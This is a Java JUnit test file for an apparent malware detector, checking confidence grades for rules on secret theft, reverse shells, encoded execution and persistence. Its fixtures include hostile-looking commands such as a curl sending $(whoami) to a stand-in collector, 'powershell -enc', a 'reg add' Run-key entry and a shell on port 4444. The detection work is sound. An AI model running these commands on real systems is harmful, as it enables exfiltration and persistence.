package dev.assay.core.detector.code;

import static dev.assay.core.detector.code.Acts.act;
import static dev.assay.core.detector.code.Acts.evident;
import static dev.assay.core.detector.code.Acts.told;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.detector.RuleCase;
import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Kind;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.fact.Facts;
import dev.assay.core.finding.Confidence;
import dev.assay.core.finding.Finding;
import java.util.Comparator;
import java.util.List;
import org.junit.jupiter.api.Test;

/// How sure rules are: what raises a finding, and the look-alike that does not.
class GradesTest {
  private static final String STRANGER = "https://collect.example/in";
  private static final String QUIETLY = "errors swallowed";
  private static final String BARE = "http://203.0.113.9:8080/a";

  @Test
  void aClientSendsTheSecretToTheServiceThatItSpeaksToMost() {
    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER);
    Act other = act(Kind.SENDS, "https://collect.example/orders", Phase.CALL);
    assertThat(grade("secret-parameter-theft", secret)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("secret-parameter-theft", secret, other, other, other, other))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("secret-parameter-theft", told(secret, QUIETLY))).isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "secret-parameter-theft",
                act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER, Label.HOST_IDENTITY)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aHelperThatAddsATokenWhereItBelongsIsNoThief() {
    Act toOwner = act(Kind.SENDS, "https://api.github.com/repos", Phase.CALL, Label.CI_TOKEN);
    Act toOther = act(Kind.SENDS, STRANGER, Phase.CALL, Label.CI_TOKEN);
    assertThat(grade("ci-token-theft", toOther)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("ci-token-theft", toOther, toOwner)).isEqualTo(Confidence.LOW);
  }

  @Test
  void aShellThatReadsAWholeCommandFromTheNetworkIsControl() {
    Act run = act(Kind.SPAWNS, "…", Phase.CALL, Label.REMOTE);
    assertThat(grade("remote-control", run)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("remote-control", evident(run, "subprocess.Popen(q, shell=True)")))
        .isEqualTo(Confidence.HIGH);
    Act bot = act(Kind.RECEIVES, "https://api.telegram.org/bot…", Phase.CALL);
    assertThat(grade("remote-control", act(Kind.SPAWNS, "…", Phase.CALL), bot))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aShellOnAConnectionIsNamedEvenWhenItIsThisMachine() {
    Act shell = act(Kind.SPAWNS, "/bin/sh", Phase.CALL, Label.REMOTE);
    assertThat(grade("reverse-shell", shell, act(Kind.RECEIVES, "localhost:4444", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("reverse-shell", shell, act(Kind.RECEIVES, "…:…", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aShellThatHidesWhatItRunsIsNeverDecodedForAGoodReason() {
    assertThat(
            grade(
                "hidden-behaviour",
                act(Kind.SPAWNS, "powershell -ep bypass -File a.ps1", Phase.CALL, Label.DECODED)))
        .isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "hidden-behaviour",
                act(Kind.SPAWNS, "openssl rsa -in a.key", Phase.CALL, Label.DECODED)))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void aClientSendsWhatItReadsToTheServiceItIsNamedAfter() {
    String own = "https://api.app.example/v1";
    assertThat(
            grade("environment-exfiltration", act(Kind.SENDS, own, Phase.CALL, Label.ENVIRONMENT)))
        .isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "environment-exfiltration",
                act(Kind.SENDS, "https://requirements.example/v1", Phase.CALL, Label.ENVIRONMENT)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "credential-theft",
                act(
                    Kind.SENDS,
                    "https://requirements.example/v1",
                    Phase.CALL,
                    Label.CREDENTIAL_FILE)))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void sourceCodeThatIsOnlyCarriedAlongIsNoTheft() {
    Act carried = told(act(Kind.SENDS, STRANGER, Phase.CALL, Label.SOURCE_CODE), "in a thread");
    assertThat(grade("file-theft", carried)).isEqualTo(Confidence.LOW);
    Act files = told(act(Kind.SENDS, STRANGER, Phase.CALL, Label.USER_FILES), "in a thread");
    assertThat(grade("file-theft", files)).isEqualTo(Confidence.HIGH);
  }

  @Test
  void severalDecodersBeforeExecutionAreNoAccident() {
    Act run = act(Kind.EXECUTES_TEXT, "", Phase.CALL, Label.DECODED);
    assertThat(grade("decoded-execution", run)).isEqualTo(Confidence.LOW);
    assertThat(grade("decoded-execution", told(run, "decoded: base64")))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("decoded-execution", told(run, "decoded: base64, zlib")))
        .isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "decoded-execution",
                told(act(Kind.EXECUTES_TEXT, "", Phase.ENTRY, Label.DECODED), "decoded: marshal")))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aBareAddressTellsMoreWhenItIsSpokenToQuietly() {
    assertThat(grade("bare-address", act(Kind.RECEIVES, BARE, Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("bare-address", told(act(Kind.SENDS, BARE, Phase.CALL), QUIETLY)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void whatAShellPrintsIsSentInTheAddress() {
    Act fetch = act(Kind.SPAWNS, "curl https://collect.example/?u=$(whoami)", Phase.CALL);
    Act request = act(Kind.RECEIVES, "https://collect.example/?u=$(whoami)", Phase.CALL);
    assertThat(grade("suspicious-command", fetch, request)).isEqualTo(Confidence.HIGH);
  }

  @Test
  void aWindowIsHiddenByThoseToolsTooThatFetchNothing() {
    assertThat(
            grade(
                "suspicious-command",
                act(Kind.SPAWNS, "powershell -windowstyle hidden start-process x", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade("suspicious-command", act(Kind.SPAWNS, "powershell -enc SQBFAFgA", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void anInstallerStartsNoDesktopAndNoUnseenProgram() {
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "calc.exe", Phase.INSTALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "pythonw a.pyw", Phase.INSTALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "………… …………", Phase.INSTALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "python gen.py", Phase.INSTALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "install-time-process",
                act(Kind.SPAWNS, "python gen.py", Phase.INSTALL),
                act(Kind.SPAWNS, "pip3.12 install acme", Phase.INSTALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aScriptInTheFolderOfTemporaryFilesIsStartedUnseen() {
    Act script = act(Kind.WRITES_FILE, "%TEMP%/a.py", Phase.CALL);
    assertThat(
            grade(
                "dropped-and-run",
                script,
                act(Kind.SPAWNS, "start python %TEMP%/a.py", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void anEntryOfTheSystemForAScriptThatIsWrittenBesideIt() {
    Act entry =
        act(
            Kind.PERSISTS,
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            Phase.CALL);
    assertThat(grade("persistence", entry)).isEqualTo(Confidence.LOW);
    assertThat(grade("persistence", entry, act(Kind.WRITES_FILE, "%APPDATA%/run.bat", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aTextThatReadsAsAProgramIsNotPacked() {
    Act packed = act(Kind.EVADES, "a program packed into a literal", Phase.CALL);
    Act run = act(Kind.EXECUTES_TEXT, "", Phase.CALL);
    Act readsItself = act(Kind.READS_FILE, "acme/a.py", Phase.IMPORT, Label.SOURCE_CODE);
    Act encoded = evident(packed, "c2FtcGxlIHRleHQgb25seQ/c2FtcGxlIHRleHQ");
    assertThat(grade("hidden-code", encoded, run)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("hidden-code", encoded, run, readsItself)).isEqualTo(Confidence.HIGH);
    assertThat(findings("hidden-code", evident(packed, "import sys, re; class A: pass"), run))
        .isEmpty();
  }

  @Test
  void aHubOfManyServicesHandsEachItsOwnKey() {
    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER);
    Act[] acts = new Act[7];
    acts[0] = secret;
    for (int i = 1; i < acts.length; i++) {
      acts[i] = act(Kind.SENDS, "https://service%d.example/in".formatted(i), Phase.CALL);
    }
    assertThat(grade("secret-parameter-theft", acts)).isEqualTo(Confidence.LOW);
  }

  @Test
  void aVendorHandsOutFilesOfAnybodyAndIsStillTheVendor() {
    assertThat(
            findings(
                "secret-parameter-theft",
                act(
                    Kind.SENDS,
                    "https://github.com/a/b/archive/c.zip",
                    Phase.CALL,
                    Label.SECRET_PARAMETER)))
        .isEmpty();
    assertThat(
            grade(
                "secret-parameter-theft",
                act(
                    Kind.SENDS,
                    "https://collector.workers.dev",
                    Phase.CALL,
                    Label.SECRET_PARAMETER)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aDriverThatIsOnlyAskedForItsVersionIsNotRun() {
    Act fetch = act(Kind.RECEIVES, "https://acme.github.io/driver.zip", Phase.CALL);
    Act written = act(Kind.WRITES_FILE, "driver.exe", Phase.CALL, Label.REMOTE);
    assertThat(
            grade(
                "dropped-and-run",
                fetch,
                written,
                act(Kind.SPAWNS, "driver.exe --version", Phase.CALL, Label.REMOTE)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "dropped-and-run",
                fetch,
                written,
                act(Kind.SPAWNS, "driver.exe --serve", Phase.CALL, Label.REMOTE)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aTableOfCharactersTurnsNoCodeRound() {
    Act turned = act(Kind.EVADES, "characters that change the direction of text", Phase.CALL);
    assertThat(grade("hidden-code", turned)).isEqualTo(Confidence.LOW);
    assertThat(grade("hidden-code", turned, act(Kind.SPAWNS, "sh a.sh", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void anInstallerOfToolsExtendsThePathOfTheShell() {
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    assertThat(grade("persistence", fetch, act(Kind.PERSISTS, "~/.bashrc", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("persistence", fetch, act(Kind.PERSISTS, "/etc/systemd/system/a", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  private static Confidence grade(String rule, Act... acts) {
    return findings(rule, acts).stream()
        .map(Finding::confidence)
        .max(Comparator.naturalOrder())
        .orElseThrow();
  }

  private static List<Finding> findings(String rule, Act... acts) {
    return new RuleCase(rule, new Facts(List.of()), "", new Facts(List.of()))
        .findings(new Facts(List.of(acts)));
  }
}
